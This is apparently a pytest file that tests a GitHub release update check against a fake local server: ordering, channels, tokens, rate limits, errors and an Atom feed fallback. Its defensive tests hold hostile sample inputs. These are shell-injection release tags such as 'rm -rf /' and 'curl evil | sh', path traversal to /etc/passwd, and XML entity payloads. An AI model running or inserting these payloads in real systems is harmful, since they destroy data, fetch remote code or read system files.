"""The ``github_release`` check against a fake GitHub on 127.0.0.1."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from typing import Any, Optional

import pytest

from benchmarks.conditional_requests import measure
from softwareupdate_core.exceptions import (
    ApiCheckError,
    CannotCheckOffline,
    CheckError,
    ConfigurationInvalid,
    NetworkError,
    RateLimitCheckError,
)
from softwareupdate_core.http import HttpClient
from softwareupdate_core.models import VersionInformation
from softwareupdate_core.version_checks import github_release
from tests.fakes.github import RESET_AT, FakeGitHub, FakeRelease, mount_github
from tests.httpserver import FakeServer, Reply

TOKEN = "ghp_testtoken123"
USER, REPO = "someUser", "OctoPrint-SomePlugin"
RELEASES_PATH = f"/repos/{USER}/{REPO}/releases"


@pytest.fixture
def github(server: FakeServer) -> FakeGitHub:
    return mount_github(server, token=TOKEN)


@pytest.fixture
def web() -> Iterator[FakeServer]:
    """A second server standing in for github.com (feeds) or a foreign host."""
    other = FakeServer().start()
    try:
        yield other
    finally:
        other.stop()


def run(
    github: FakeGitHub,
    http: HttpClient,
    *,
    credentials: Optional[dict[str, Any]] = None,
    online: bool = True,
    **extra: Any,
) -> tuple[VersionInformation, bool]:
    check = {"type": "github_release", "user": USER, "repo": REPO, "api_url": github.api_url}
    check["current"] = "0.0.1"  # a release check cannot do without the installed version
    check.update(extra)
    return github_release.get_latest(
        "some_plugin", check, online=online, credentials=credentials, http=http
    )


def test_newest_release_is_offered(github: FakeGitHub, http: HttpClient) -> None:
    """The newest release is the remote version, with its page as release notes."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0", name="Version 1.2"), FakeRelease("1.1.0")])
    info, is_current = run(github, http, current="1.1.0")
    assert (info.remote.name, info.remote.value) == ("Version 1.2", "1.2.0")
    assert info.remote.release_notes == f"https://github.com/{USER}/{REPO}/releases/tag/1.2.0"
    assert (info.local.value, is_current, info.notes) == ("1.1.0", False, ())


def test_current_version_is_current(github: FakeGitHub, http: HttpClient) -> None:
    """A local version equal to the newest release is current."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0"), FakeRelease("1.1.0")])
    assert run(github, http, current="1.2.0")[1] is True


def test_item08_unknown_local_version_is_a_config_error(
    github: FakeGitHub, http: HttpClient
) -> None:
    """issue 9 item 8: without ``current`` the check names the missing key, offering nothing."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0")])
    with pytest.raises(ConfigurationInvalid, match=r"checks\.some_plugin\.current"):
        run(github, http, current=None)
    assert github.server.hits(RELEASES_PATH) == []


def test_repository_without_releases_is_current(github: FakeGitHub, http: HttpClient) -> None:
    """No release at all means nothing to update to."""
    github.add_repo(USER, REPO, [])
    info, is_current = run(github, http, current="1.0.0")
    assert (info.remote.value, is_current) == (None, True)


def test_versions_are_ordered_not_listing_order(github: FakeGitHub, http: HttpClient) -> None:
    """A backport created after a bigger release does not hide the bigger release."""
    github.add_repo(USER, REPO, [FakeRelease("1.1.5"), FakeRelease("1.2.0"), FakeRelease("1.1.4")])
    assert run(github, http, current="1.1.4")[0].remote.value == "1.2.0"


def test_drafts_are_ignored(github: FakeGitHub, http: HttpClient) -> None:
    """A draft release is never offered, even as the newest."""
    github.add_repo(USER, REPO, [FakeRelease("2.0.0", draft=True), FakeRelease("1.2.0")])
    for prerelease in (False, True):
        assert run(github, http, prerelease=prerelease)[0].remote.value == "1.2.0"


@pytest.mark.parametrize(("prerelease", "expected"), [(False, "1.2.0"), (True, "1.3.0rc1")])
def test_prereleases_only_when_wanted(
    github: FakeGitHub, http: HttpClient, prerelease: bool, expected: str
) -> None:
    """Prereleases count only with ``prerelease: true``."""
    github.add_repo(USER, REPO, [FakeRelease("1.3.0rc1", prerelease=True), FakeRelease("1.2.0")])
    assert run(github, http, prerelease=prerelease)[0].remote.value == expected


def test_stable_release_behind_a_full_page_of_prereleases(
    github: FakeGitHub, http: HttpClient
) -> None:
    """Pages are followed via Link rel="next" until a stable release is found."""
    rcs = [FakeRelease(f"2.0.0rc{n}", prerelease=True) for n in range(150, 0, -1)]
    github.add_repo(USER, REPO, [*rcs, FakeRelease("1.5.0"), FakeRelease("1.4.0")])
    info, is_current = run(github, http, current="1.4.0")
    assert (info.remote.value, is_current) == ("1.5.0", False)
    pages = [r.query.get("page", ["1"])[0] for r in github.server.hits(RELEASES_PATH)]
    assert pages == ["1", "2"]


def test_paging_stops_at_the_first_page_with_a_match(github: FakeGitHub, http: HttpClient) -> None:
    """With prereleases wanted, the first page already answers: one request only."""
    rcs = [FakeRelease(f"2.0.0rc{n}", prerelease=True) for n in range(150, 0, -1)]
    github.add_repo(USER, REPO, [*rcs, FakeRelease("1.5.0")])
    assert run(github, http, prerelease=True)[0].remote.value == "2.0.0rc150"
    assert len(github.server.hits(RELEASES_PATH)) == 1


def test_max_pages_bounds_paging(github: FakeGitHub, http: HttpClient) -> None:
    """``max_pages`` limits how many pages are read; beyond it nothing is found."""
    rcs = [FakeRelease(f"2.0.0rc{n}", prerelease=True) for n in range(150, 0, -1)]
    github.add_repo(USER, REPO, [*rcs, FakeRelease("1.5.0")])
    assert run(github, http, max_pages=1)[0].remote.value is None
    assert len(github.server.hits(RELEASES_PATH)) == 1


def test_next_link_to_another_host_is_not_followed(
    server: FakeServer, web: FakeServer, http: HttpClient, caplog: pytest.LogCaptureFixture
) -> None:
    """A next-page link outside api_url ends the paging with one warning naming the target."""
    page = [{"tag_name": "2.0.0rc1", "prerelease": True, "draft": False}]
    link = {"Link": f'<{web.url}{RELEASES_PATH}?page=2>; rel="next"'}
    server.route(RELEASES_PATH, Reply.json(page, headers=link))
    web.route(RELEASES_PATH, Reply.json([{"tag_name": "1.0.0"}]))
    check = {"user": USER, "repo": REPO, "api_url": server.url, "current": "1.0"}
    with caplog.at_level("WARNING"):
        info, _ = github_release.get_latest("t", check, credentials={"github": TOKEN}, http=http)
    assert info.remote.value is None
    assert web.hits() == []
    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert len(warnings) == 1 and warnings[0].startswith("t: not following")


# -- release channels (the seed's example) --------------------------------------------------
CHANNELS: dict[str, Any] = {
    "stable_branch": {"name": "Stable", "branch": "master", "commitish": ["master"]},
    "prerelease_branches": [
        {
            "name": "Maintenance RCs",
            "branch": "rc/maintenance",
            "commitish": ["rc/maintenance", "master"],
        },
        {
            "name": "Devel RCs",
            "branch": "rc/devel",
            "commitish": ["rc/devel", "rc/maintenance", "master"],
        },
    ],
}
CHANNEL_RELEASES = [
    FakeRelease("9.0.0rc1", prerelease=True, target_commitish="experimental"),
    FakeRelease("1.3.0rc2", prerelease=True, target_commitish="rc/devel"),
    FakeRelease("1.2.1rc1", prerelease=True, target_commitish="rc/maintenance"),
    FakeRelease("1.2.0", target_commitish="master"),
]


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        ({}, "1.2.0"),
        ({"prerelease": True, "prerelease_channel": "master"}, "1.2.0"),
        ({"prerelease": True, "prerelease_channel": "rc/maintenance"}, "1.2.1rc1"),
        ({"prerelease": True, "prerelease_channel": "rc/devel"}, "1.3.0rc2"),
        ({"prerelease": True}, "9.0.0rc1"),
        ({"prerelease": False, "prerelease_channel": "rc/devel"}, "1.2.0"),
        ({"prerelease": True, "prerelease_channel": "experimental"}, "9.0.0rc1"),
    ],
)
def test_release_channels(
    github: FakeGitHub, http: HttpClient, settings: dict[str, Any], expected: str
) -> None:
    """Each channel offers releases whose commitish is in its list; prerelease must be on."""
    github.add_repo(USER, REPO, CHANNEL_RELEASES)
    assert run(github, http, **CHANNELS, **settings)[0].remote.value == expected


def test_channel_commitish_defaults_to_its_branch(github: FakeGitHub, http: HttpClient) -> None:
    """A channel without ``commitish`` matches releases tagged on its branch."""
    github.add_repo(USER, REPO, CHANNEL_RELEASES)
    channels: dict[str, Any] = {"prerelease_branches": [{"name": "Devel", "branch": "rc/devel"}]}
    info, _ = run(github, http, prerelease=True, prerelease_channel="rc/devel", **channels)
    assert info.remote.value == "1.3.0rc2"


@pytest.mark.parametrize(
    "bad",
    [
        {"stable_branch": "master"},
        {"prerelease_branches": {"branch": "x"}},
        {"prerelease_branches": [{"name": "no branch"}]},
        {"prerelease_branches": [{"branch": "x", "commitish": [1]}]},
        {"prerelease": "yes"},
    ],
)
def test_broken_channel_config_is_named(
    github: FakeGitHub, http: HttpClient, bad: dict[str, Any]
) -> None:
    """Malformed channel settings raise ConfigurationInvalid naming the key."""
    github.add_repo(USER, REPO, CHANNEL_RELEASES)
    with pytest.raises(ConfigurationInvalid, match=r"checks\.some_plugin\.(stable|prerelease)"):
        run(github, http, prerelease_channel="x", **{"prerelease": True, **bad})


# -- comparison ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("compare", "current", "remote", "expected"),
    [
        ("python", "1.2.0", "1.2.0", True),
        ("python", "1.1.0", "1.2.0", False),
        ("python", "1.3.0", "1.2.0", True),
        ("python", "v1.2.0", "1.2.0", True),
        ("python_unequal", "1.3.0", "1.2.0", False),
        ("python_unequal", "1.2", "1.2.0", True),
        ("semantic", "1.2.0", "v1.2.0", True),
        ("semantic", "1.2.0", "1.10.0", False),
        ("semantic_unequal", "1.3.0", "1.2.0", False),
        ("unequal", "1.3.0", "1.2.0", False),
        ("unequal", "1.2.0", "1.2.0", True),
    ],
)
def test_release_compare_modes(
    github: FakeGitHub,
    http: HttpClient,
    compare: str,
    current: str,
    remote: str,
    expected: bool,
) -> None:
    """Every release_compare scheme of versions.py decides is_current."""
    github.add_repo(USER, REPO, [FakeRelease(remote)])
    info, is_current = run(github, http, current=current, release_compare=compare)
    assert (info.remote.value, is_current) == (remote, expected)


def test_custom_compare_callable(github: FakeGitHub, http: HttpClient) -> None:
    """``release_compare: custom`` asks check["custom_compare"](local, remote)."""
    github.add_repo(USER, REPO, [FakeRelease("build-7")])
    calls: list[tuple[str, str]] = []

    def same_build(local: str, remote: str) -> bool:
        calls.append((local, remote))
        return local.split("-")[1] == remote.split("-")[1]

    info, is_current = run(
        github, http, current="build-7", release_compare="custom", custom_compare=same_build
    )
    assert (info.remote.value, is_current, calls) == ("build-7", True, [("build-7", "build-7")])


def test_unordered_tags_use_listing_order_under_unequal(
    github: FakeGitHub, http: HttpClient
) -> None:
    """With tags that are no versions, ``unequal`` offers the most recent release."""
    github.add_repo(USER, REPO, [FakeRelease("nightly-b"), FakeRelease("nightly-a")])
    info, is_current = run(github, http, current="nightly-a", release_compare="unequal")
    assert (info.remote.value, is_current) == ("nightly-b", False)


def test_unordered_tags_under_python_are_a_check_error(
    github: FakeGitHub, http: HttpClient
) -> None:
    """If no tag reads as a version under an ordering scheme, the check says so."""
    github.add_repo(USER, REPO, [FakeRelease("nightly-b")])
    with pytest.raises(CheckError, match="no release tag is a version"):
        run(github, http, current="1.0")


@pytest.mark.parametrize(("force_base", "expected"), [(False, False), (True, True)])
def test_force_base(github: FakeGitHub, http: HttpClient, force_base: bool, expected: bool) -> None:
    """With force_base a development build of the released version counts as current."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0")])
    assert run(github, http, current="1.2.0.dev5", force_base=force_base)[1] is expected


@pytest.mark.parametrize(
    "extra",
    [{"release_compare": "semantic_version"}, {"release_compare": "custom"}],
)
def test_item14_bad_compare_config_falls_back_to_python(
    github: FakeGitHub, http: HttpClient, extra: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    """issue 9 item 14: an unknown scheme, or custom without a callable, compares as python."""
    github.add_repo(USER, REPO, [FakeRelease("1.1.0"), FakeRelease("1.0.0")])
    with caplog.at_level("WARNING"):
        info, is_current = run(github, http, current="1.0.0", **extra)
    assert (info.remote.value, is_current) == ("1.1.0", False)
    warnings = [r for r in caplog.records if "release_compare" in r.getMessage()]
    assert len(warnings) == 1 and "python" in warnings[0].getMessage()


# -- configuration and credentials ----------------------------------------------------------
@pytest.mark.parametrize("missing", ["user", "repo"])
def test_mandatory_keys_are_named(http: HttpClient, missing: str) -> None:
    """A missing user or repo raises ConfigurationInvalid naming the key."""
    check = {"user": USER, "repo": REPO}
    del check[missing]
    with pytest.raises(ConfigurationInvalid, match=rf"checks\.t\.{missing}"):
        github_release.get_latest("t", check, http=http)


@pytest.mark.parametrize("api_url", ["ftp://example.org", "not a url", "https://"])
def test_bad_api_url_is_a_configuration_error(http: HttpClient, api_url: str) -> None:
    """api_url must be an absolute http(s) URL."""
    check = {"user": USER, "repo": REPO, "api_url": api_url}
    with pytest.raises(ConfigurationInvalid, match="api_url"):
        github_release.get_latest("t", check, http=http)


def test_token_is_sent_as_bearer_header(github: FakeGitHub, http: HttpClient) -> None:
    """credentials["github"] goes as ``Authorization: Bearer``, never in the URL."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    run(github, http, credentials={"github": TOKEN})
    (request,) = github.server.hits(RELEASES_PATH)
    assert request.header("Authorization") == f"Bearer {TOKEN}"
    assert TOKEN not in str(request.query)
    assert request.header("Accept") == "application/vnd.github+json"


def test_no_token_no_authorization_header(github: FakeGitHub, http: HttpClient) -> None:
    """Without a token the request is anonymous."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    run(github, http, credentials={"github": None})
    assert github.server.hits(RELEASES_PATH)[0].header("Authorization") is None


def test_bad_token_type_is_refused_without_echo(http: HttpClient) -> None:
    """A token that is not a string is a ConfigurationInvalid naming credentials.github."""
    check = {"user": USER, "repo": REPO}
    with pytest.raises(ConfigurationInvalid, match=r"credentials\.github") as caught:
        github_release.get_latest("t", check, credentials={"github": ["secret-ish"]}, http=http)
    assert "secret-ish" not in str(caught.value)


def test_wrong_token_is_an_api_error(github: FakeGitHub, http: HttpClient) -> None:
    """A token GitHub rejects gives ApiCheckError 401 with GitHub's message, not the token."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    with pytest.raises(ApiCheckError) as caught:
        run(github, http, credentials={"github": "wrong-token"})
    assert (caught.value.status, caught.value.api_message) == (401, "Bad credentials")
    assert "wrong-token" not in str(caught.value)


def test_unchanged_releases_are_reused_on_304(github: FakeGitHub, http: HttpClient) -> None:
    """A repeated check sends If-None-Match, gets 304 and answers the same; free with a token."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0")])
    first = run(github, http, current="1.0", credentials={"github": TOKEN})
    second = run(github, http, current="1.0", credentials={"github": TOKEN})
    assert first == second
    hits = github.server.hits(RELEASES_PATH)
    assert hits[1].header("If-None-Match") is not None
    assert (github.not_modified, github.charged) == (1, 1)


def test_changed_releases_are_seen_after_304s(github: FakeGitHub, http: HttpClient) -> None:
    """A new release changes the ETag, so the next check sees it."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0")])
    run(github, http)
    github.add_repo(USER, REPO, [FakeRelease("1.3.0")])
    assert run(github, http)[0].remote.value == "1.3.0"


@pytest.mark.parametrize("with_token", [True, False])
def test_forced_recheck_cost(with_token: bool) -> None:
    """Re-checking 20 unchanged repositories sends 20 requests; only token-less ones are charged."""
    result = measure(20, with_token=with_token)
    assert (result.requests, result.not_modified) == (20, 20)
    assert result.charged == (0 if with_token else 20)


# -- failures -----------------------------------------------------------------------------
def test_exhausted_quota_with_token_is_a_rate_limit_error(
    github: FakeGitHub, http: HttpClient, web: FakeServer
) -> None:
    """With a token, a 403 with X-RateLimit-Remaining: 0 is a RateLimitCheckError; no fallback."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    github.mount_feed(web)
    github.authenticated.remaining = 0
    with pytest.raises(RateLimitCheckError) as caught:
        run(github, http, credentials={"github": TOKEN}, web_url=web.url)
    assert (caught.value.status, caught.value.remaining, caught.value.reset) == (403, 0, RESET_AT)
    assert len(github.server.hits()) == 1
    assert web.hits() == []


def test_exhausted_quota_with_prereleases_is_a_rate_limit_error(
    github: FakeGitHub, http: HttpClient
) -> None:
    """Without a token but wanting prereleases, there is no feed fallback: the error stands."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    github.anonymous.remaining = 0
    with pytest.raises(RateLimitCheckError):
        run(github, http, prerelease=True, web_url=github.server.url)
    assert [r.path for r in github.server.hits()] == [RELEASES_PATH]


def test_secondary_rate_limit_429_is_not_retried(github: FakeGitHub, http: HttpClient) -> None:
    """A 429 with Retry-After gives RateLimitCheckError with a reset time, after one request."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    github.secondary_limit = True
    before = time.time()
    with pytest.raises(RateLimitCheckError) as caught:
        run(github, http, credentials={"github": TOKEN})
    assert caught.value.status == 429
    assert caught.value.reset is not None and caught.value.reset >= before + 59
    assert len(github.server.hits()) == 1


@pytest.mark.parametrize("status", [404, 500, 503])
def test_error_status_is_an_api_error(server: FakeServer, http: HttpClient, status: int) -> None:
    """4xx/5xx answers raise ApiCheckError with the status and GitHub's message."""
    server.route(RELEASES_PATH, Reply.json({"message": "Not Found here"}, status))
    check = {"user": USER, "repo": REPO, "api_url": server.url, "current": "1.0"}
    with pytest.raises(ApiCheckError) as caught:
        github_release.get_latest("t", check, http=http)
    assert (caught.value.status, caught.value.api_message) == (status, "Not Found here")


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (Reply(200, "<html><body>Unicorn!</body></html>", {"Content-Type": "text/html"}), "JSON"),
        (Reply(200, '[{"tag_name": "1.0', {"Content-Type": "application/json"}), "JSON"),
        (Reply.json({"message": "not a list"}), "list"),
        (Reply.json([{"name": "no tag"}]), "tag_name"),
        (Reply.json(["1.0.0"]), "tag_name"),
    ],
)
def test_malformed_answers_are_check_errors(
    server: FakeServer, http: HttpClient, reply: Reply, message: str
) -> None:
    """HTML, truncated JSON or JSON of another shape raise CheckError saying what was wrong."""
    server.route(RELEASES_PATH, reply)
    check = {"user": USER, "repo": REPO, "api_url": server.url, "current": "1.0"}
    with pytest.raises(CheckError, match=message):
        github_release.get_latest("t", check, http=http)


def test_hanging_api_is_a_network_error_within_the_timeout(server: FakeServer) -> None:
    """An API that never answers gives NetworkError after the timeout."""
    server.route(RELEASES_PATH, Reply(200, "[]", delay=60))
    check = {"user": USER, "repo": REPO, "api_url": server.url, "current": "1.0"}
    started = time.monotonic()
    with HttpClient(timeout=(1, 1)) as http, pytest.raises(NetworkError):
        github_release.get_latest("t", check, http=http)
    assert time.monotonic() - started < 15


def test_connection_refused_is_a_network_error(http: HttpClient) -> None:
    """An api_url nobody listens on gives NetworkError."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    check = {"user": USER, "repo": REPO, "api_url": f"http://127.0.0.1:{port}", "current": "1.0"}
    with pytest.raises(NetworkError):
        github_release.get_latest("t", check, http=http)


def test_offline_raises_cannot_check_offline(github: FakeGitHub, http: HttpClient) -> None:
    """Offline the check refuses without sending anything."""
    github.add_repo(USER, REPO, [FakeRelease("1.0.0")])
    with pytest.raises(CannotCheckOffline):
        run(github, http, online=False)
    assert github.server.hits() == []


HOSTILE_TAGS = [
    "1.0; rm -rf /",
    "$(reboot)",
    "`id`",
    "--index-url=https://evil.example",
    "-e git+https://evil",
    "../../../etc/passwd",
    "1.0\n2.0",
    "v1.0 && curl evil | sh",
    "x" * 500,
]


@pytest.mark.parametrize("compare", ["python", "semantic", "unequal"])
def test_hostile_tags_do_not_break_the_check(
    github: FakeGitHub, http: HttpClient, compare: str
) -> None:
    """Shell metacharacters, option-like and absurd tags are skipped or kept as plain strings."""
    github.add_repo(USER, REPO, [FakeRelease(t) for t in HOSTILE_TAGS] + [FakeRelease("1.2.0")])
    info, is_current = run(github, http, current="1.2.0", release_compare=compare)
    assert (info.remote.value, is_current) == ("1.2.0", True)


def test_only_hostile_tags_under_unequal_stay_inert_strings(
    github: FakeGitHub, http: HttpClient
) -> None:
    """Under ``unequal`` a non-version tag may be offered, but never an option-like one."""
    github.add_repo(USER, REPO, [FakeRelease(t) for t in HOSTILE_TAGS[2:5]])
    info, _ = run(github, http, current="1.0", release_compare="unequal")
    assert info.remote.value == "`id`"
    github.server.reset_counts()
    github2_tags = [FakeRelease("--index-url=https://evil.example")]
    github.add_repo(USER, "other", github2_tags)
    check = {"user": USER, "repo": "other", "api_url": github.api_url, "release_compare": "unequal"}
    check["current"] = "1.0"
    assert github_release.get_latest("t", check, http=http)[0].remote.value is None


# -- Atom feed fallback ---------------------------------------------------------------------
def test_zero_quota_without_token_falls_back_to_the_feed(
    github: FakeGitHub, http: HttpClient, web: FakeServer
) -> None:
    """Anonymous and out of quota, a stable-only check reads releases.atom and says so."""
    github.add_repo(
        USER,
        REPO,
        [
            FakeRelease("1.3.0rc1", prerelease=True),
            FakeRelease("1.2.0", name="Big & <new>"),
            FakeRelease("1.1.0"),
        ],
    )
    github.mount_feed(web)
    github.anonymous.remaining = 0
    info, is_current = run(github, http, current="1.1.0", web_url=web.url)
    assert (info.remote.value, info.remote.name, is_current) == ("1.2.0", "Big & <new>", False)
    assert info.notes == (github_release.FEED_NOTE,)
    assert info.remote.release_notes == f"{web.url}/{USER}/{REPO}/releases/tag/1.2.0"
    assert [r.path for r in web.hits()] == [f"/{USER}/{REPO}/releases.atom"]
    assert web.hits()[0].header("Authorization") is None


def test_item22_no_feed_fallback_for_a_non_public_api_without_web_url(
    github: FakeGitHub, http: HttpClient, web: FakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """issue 9 item 22: another api_url never falls back to github.com's feed; web_url opts in."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0"), FakeRelease("1.1.0")])
    github.mount_feed(web)
    github.anonymous.remaining = 0
    tried: list[str] = []
    original = github_release._latest_from_feed

    def spy(target: str, client: HttpClient, repo: Any, *args: Any) -> Any:
        tried.append(repo.web_base)
        return original(target, client, repo, *args)

    monkeypatch.setattr(github_release, "_latest_from_feed", spy)
    with pytest.raises(RateLimitCheckError):
        run(github, http, current="1.1.0")  # api_url is the test server, no web_url
    assert tried == []
    info, _ = run(github, http, current="1.1.0", web_url=web.url)
    assert tried == [f"{web.url}/{USER}/{REPO}"]
    assert info.remote.value == "1.2.0" and info.notes == (github_release.FEED_NOTE,)


def test_feed_failure_keeps_the_rate_limit_error(
    github: FakeGitHub, http: HttpClient, web: FakeServer
) -> None:
    """If the feed cannot help either (404 here), the original RateLimitCheckError is raised."""
    github.add_repo(USER, REPO, [FakeRelease("1.2.0")])
    github.anonymous.remaining = 0
    with pytest.raises(RateLimitCheckError):
        run(github, http, current="1.1.0", web_url=web.url)
    assert len(web.hits()) == 1


@pytest.mark.parametrize(
    "feed",
    [
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">]>'
        b'<feed xmlns="http://www.w3.org/2005/Atom">&lol;</feed>',
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
        b"<feed xmlns='http://www.w3.org/2005/Atom'><entry>",
        b"<rss><channel/></rss>",
    ],
)
def test_hostile_or_broken_feeds_are_refused(feed: bytes) -> None:
    """Feeds with DOCTYPE/ENTITY declarations, broken XML or another format are a CheckError."""
    with pytest.raises(CheckError):
        github_release.parse_feed(feed, "feed")


def test_feed_tags_come_from_links_or_ids() -> None:
    """Entry tags are read from the release link, else from the end of the entry id."""
    feed = (
        b'<feed xmlns="http://www.w3.org/2005/Atom">'
        b'<entry><id>x/9</id><link rel="alternate" href="https://h/u/r/releases/tag/v1.0%2Bb"/>'
        b"<title> One </title></entry>"
        b"<entry><id>tag:github.com,2008:Repository/1/0.9</id></entry>"
        b"<entry><title>no tag</title></entry>"
        b"</feed>"
    )
    entries = github_release.parse_feed(feed, "feed")
    assert [(e.tag, e.title) for e in entries] == [("v1.0+b", "One"), ("0.9", None)]
